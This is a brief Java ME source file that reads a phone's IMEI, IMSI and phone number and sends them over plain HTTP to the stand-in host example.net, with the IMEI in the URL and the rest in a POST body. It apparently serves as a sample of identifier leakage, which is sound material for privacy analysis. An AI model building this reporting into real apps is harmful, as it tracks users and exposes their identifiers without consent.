package com.example.devinfo;

import java.io.IOException;
import java.io.OutputStream;
import javax.microedition.io.Connector;
import javax.microedition.io.HttpConnection;

/** Sends the identifiers to a server, in the address and in the body. */
class Report implements Runnable {
    private final Identifiers identifiers;

    Report(Identifiers identifiers) {
        this.identifiers = identifiers;
    }

    public void run() {
        try {
            HttpConnection connection = (HttpConnection) Connector.open("http://example.net/check?imei=" + identifiers.imei());
            connection.setRequestMethod(HttpConnection.POST);
            OutputStream out = connection.openOutputStream();
            out.write(("imsi=" + identifiers.imsi() + "&number=" + identifiers.number()).getBytes());
            out.close();
            connection.getResponseCode();
            connection.close();
        } catch (IOException e) {
            System.out.println("report failed: " + e.getMessage());
        }
    }
}
